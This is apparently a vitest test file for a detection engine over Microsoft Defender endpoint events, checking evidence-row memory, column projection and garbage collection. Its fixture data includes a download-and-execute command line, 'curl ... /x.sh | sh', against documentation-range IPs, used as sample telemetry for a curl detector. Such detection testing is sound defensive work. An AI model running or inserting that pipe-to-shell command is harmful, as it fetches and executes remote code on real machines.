/**
 * What alerts hold until the report is built: evidence events keep identity and the declared
 * columns of their row, never the whole row, and one row kept by several alerts is one object.
 */
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import { makeEvent } from '../../testing.js';
import { defineDetector } from '../detector/define.js';
import type { AlertGroup, AnyDetector, CorrelationInput, Detector } from '../detector/types.js';
import type { MdeEvent } from '../model/event.js';
import { analyzeEvents } from './entry.js';

const DEVICE = '875524232b2377b606ca585f2a6692b5be921b94';
const NAME = 'wazuh1.x0rsjvjofsvujdf53bjf3swsje.bx.internal.cloudapp.net';

function proc(i: number, extra: Record<string, unknown> = {}): MdeEvent {
  return makeEvent('DeviceProcessEvents', {
    Timestamp: `2025-11-07T06:${String(10 + (i % 40)).padStart(2, '0')}:11.5276441Z`,
    DeviceId: `${DEVICE.slice(0, 36)}${String(i % 1000).padStart(4, '0')}`,
    DeviceName: NAME,
    ActionType: 'ProcessCreated',
    FileName: 'curl',
    FolderPath: '/usr/bin/curl',
    ProcessCommandLine: `curl -s http://203.0.113.${i % 250}/x.sh`,
    ProcessId: 4000 + i,
    InitiatingProcessFileName: 'bash',
    InitiatingProcessCommandLine: 'bash -c "curl -s http://203.0.113.7/x.sh | sh"',
    AccountName: 'root',
    ReportId: String(700000000000000000n + BigInt(i)),
    ...extra,
  });
}

const META = {
  summary: 'Counts curl runs.',
  rationale: 'Exercises evidence memory in tests.',
  severity: 'low',
  category: 'Testing',
  mitre: ['T1105'],
  tables: ['DeviceProcessEvents'],
  messages: { default: { title: 'curl on {device}', description: '{count} run(s).', riskAssessment: 'Check.' } },
} as const;

function curl(id: string, seen: MdeEvent[][], evidence: Record<string, unknown>): AnyDetector {
  return defineDetector({
    meta: { ...META, id, title: `curl ${id}`, evidence },
    match: (e: MdeEvent) => (e.str('FileName') === 'curl' ? {} : undefined),
    render: (g: AlertGroup) => {
      seen.push([...g.events]);
      return undefined;
    },
  } as unknown as Detector);
}

describe('evidence memory', () => {
  it('evidence events keep identity and declared columns only; the whole row is not held', async () => {
    const seen: MdeEvent[][] = [];
    const d = curl('test/curl-a', seen, { cmd: { from: 'ProcessCommandLine', combine: 'first' } });
    const result = await analyzeEvents([proc(1, { InitiatingProcessCommandLine: 'p'.repeat(5000) })], {
      detectors: [d],
      generatedAt: 'x',
    });
    const held = seen[0]![0]!;
    expect(held.columns().sort()).toEqual(
      ['ActionType', 'DeviceId', 'DeviceName', 'ProcessCommandLine', 'ReportId', 'Timestamp'].sort(),
    );
    expect(held.has('InitiatingProcessCommandLine')).toBe(false);
    expect(held.reportId).toBe('700000000000000001');
    expect(result.alerts[0]!.evidence.events[0]!.fields).toEqual({
      Timestamp: '2025-11-07T06:11:11.5276441Z',
      DeviceId: held.deviceId,
      DeviceName: NAME,
      ActionType: 'ProcessCreated',
      ProcessCommandLine: 'curl -s http://203.0.113.1/x.sh',
      ReportId: '700000000000000001',
    });
    // In the row's order, as whole rows were listed.
    expect(Object.keys(result.alerts[0]!.evidence.events[0]!.fields)).toEqual([
      'Timestamp',
      'DeviceId',
      'DeviceName',
      'ActionType',
      'ProcessCommandLine',
      'ReportId',
    ]);
  });

  it('device snapshots stay the objects the device state holds', async () => {
    const seen: MdeEvent[][] = [];
    const info = makeEvent('DeviceInfo', {
      Timestamp: '2025-11-07T06:00:01.3691661Z',
      DeviceId: DEVICE,
      DeviceName: NAME,
      OSPlatform: 'Linux',
      MachineGroup: 'UnassignedGroup',
      ReportId: '700000000000014801',
    });
    let state: MdeEvent | undefined;
    const d = defineDetector({
      meta: {
        ...META,
        id: 'test/info',
        title: 'info',
        tables: ['DeviceInfo'],
        evidence: { group: { from: 'MachineGroup', combine: 'first' } },
      },
      match: () => ({}),
      render: (g: AlertGroup) => {
        seen.push([...g.events]);
        state = g.device.info;
        return undefined;
      },
    } as unknown as Detector);
    await analyzeEvents([info], { detectors: [d], generatedAt: 'x' });
    expect(seen[0]![0]).toBe(state);
  });

  it('one row kept by several detectors is one object, holding the columns any of them keeps', async () => {
    const seen: MdeEvent[][] = [];
    const a = curl('test/curl-a', seen, { cmd: { from: 'ProcessCommandLine', combine: 'first' } });
    const b = curl('test/curl-b', seen, { parent: { from: 'InitiatingProcessFileName', combine: 'first' } });
    let gathered = 0;
    const correlator = defineDetector({
      // A correlator's alerts show borrowed rows with its own columns: projections keep them too.
      meta: { ...META, id: 'test/curl-z', title: 'both', tables: [], columns: ['FolderPath'] },
      correlate: (input: CorrelationInput) => {
        const events: MdeEvent[] = [];
        for (const alert of input.alerts) for (const e of alert.events) if (!events.includes(e)) events.push(e);
        gathered = events.length;
        return [];
      },
    } as unknown as Detector);
    const result = await analyzeEvents([proc(1)], { detectors: [a, b, correlator], generatedAt: 'x' });
    expect(result.alerts).toHaveLength(2);
    expect(seen[0]![0]).toBe(seen[1]![0]);
    expect(gathered).toBe(1);
    expect(seen[0]![0]!.has('ProcessCommandLine') && seen[0]![0]!.has('InitiatingProcessFileName')).toBe(true);
    expect(seen[0]![0]!.has('FolderPath')).toBe(true);
    expect(seen[0]![0]!.has('ProcessId')).toBe(false);
    // Each alert's evidence shows its own detector's columns.
    const fields = result.alerts.map((x) => Object.keys(x.evidence.events[0]!.fields).sort());
    expect(fields).toContainEqual([
      'ActionType',
      'DeviceId',
      'DeviceName',
      'ProcessCommandLine',
      'ReportId',
      'Timestamp',
    ]);
    expect(fields).toContainEqual([
      'ActionType',
      'DeviceId',
      'DeviceName',
      'InitiatingProcessFileName',
      'ReportId',
      'Timestamp',
    ]);
  });

  it("evidence.rows: 'full' keeps whole rows", async () => {
    const seen: MdeEvent[][] = [];
    const d = curl('test/curl-a', seen, { cmd: { from: 'ProcessCommandLine', combine: 'first' } });
    await analyzeEvents([proc(1, { AdditionalFields: '{"p":1}' })], {
      detectors: [d],
      generatedAt: 'x',
      evidence: { rows: 'full' },
    });
    expect(seen[0]![0]!.has('AdditionalFields')).toBe(true);
  });

  it('retained memory grows with alerts, not with the size of the rows', async () => {
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const d = curl('test/curl-a', [], { cmd: { from: 'ProcessCommandLine', combine: 'first' } });
    // 1,000 devices × 5 kept rows, each row carrying 10 KB nobody declared: 50 MB if rows were held.
    const pad = 'p'.repeat(10_000);
    async function* rows(): AsyncGenerator<MdeEvent> {
      for (let i = 0; i < 5000; i++) yield proc(i, { AdditionalFields: `{"Pad":"${pad}${i}"}` });
    }
    gc();
    const before = process.memoryUsage().heapUsed;
    const result = await analyzeEvents(rows(), { detectors: [d], generatedAt: 'x' });
    gc();
    const retained = process.memoryUsage().heapUsed - before;
    expect(result.alerts).toHaveLength(1000);
    expect(result.alerts[0]!.evidence.events).toHaveLength(5);
    expect(retained).toBeLessThan(20e6);
  });
});

describe('an analyzer kept after finish()', () => {
  it('holds its result, not the groups and device states it was made from', async () => {
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const { createAnalyzer } = await import('./analyze.js');
    const seen: MdeEvent[][] = [];
    const d = curl('test/curl-kept', seen, { cmd: { from: 'ProcessCommandLine', combine: 'first' } });
    const analyzer = createAnalyzer({ detectors: [d], generatedAt: 'x' });
    // Made in a function: the test itself holds no reference to the row.
    const infoRef = ((info: MdeEvent) => {
      analyzer.pushEvent(info);
      return new WeakRef(info);
    })(
      makeEvent('DeviceInfo', {
        Timestamp: '2025-11-07T06:00:01.3691661Z',
        DeviceId: proc(1).deviceId,
        DeviceName: NAME,
        OSPlatform: 'Linux',
        ReportId: '700000000000014801',
      }),
    );
    for (let i = 0; i < 50; i++) analyzer.pushEvent(proc(i));
    const result = analyzer.finish();
    expect(result.alerts).toHaveLength(50);
    // The device's latest DeviceInfo row (device state) and an evidence row (a group's sample).
    const refs = [infoRef, new WeakRef(seen[0]![0]!)];
    seen.length = 0;
    // WeakRef targets live to the end of the current job.
    await new Promise((resolve) => setImmediate(resolve));
    gc();
    expect(refs.map((r) => r.deref() === undefined)).toEqual([true, true]);
    expect(analyzer.finish()).toBe(result);
    expect(result.alerts[0]!.evidence.events[0]!.fields.ProcessCommandLine).toBe('curl -s http://203.0.113.0/x.sh');
  });
});
